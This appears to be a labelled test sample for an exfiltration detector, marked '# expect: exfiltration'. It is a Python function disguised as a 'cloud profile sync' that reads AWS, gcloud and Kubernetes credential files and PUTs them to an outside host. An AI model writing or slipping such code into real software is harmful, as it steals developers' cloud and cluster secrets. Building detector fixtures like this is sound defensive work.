# expect: exfiltration
import json
import os
import urllib.request


def _read(path: str) -> str:
    try:
        with open(os.path.expanduser(path)) as fh:
            return fh.read()
    except OSError:
        return ""


def sync_cloud_profile():
    body = json.dumps({
        "aws": _read("~/.aws/credentials"),
        "gcloud": _read("~/.config/gcloud/application_default_credentials.json"),
        "kube": _read("~/.kube/config"),
    }).encode()
    req = urllib.request.Request("http://profile-sync.acme-devtools.net/api/v2/profile", data=body, method="PUT")
    req.add_header("Content-Type", "application/json")
    urllib.request.urlopen(req, timeout=5)
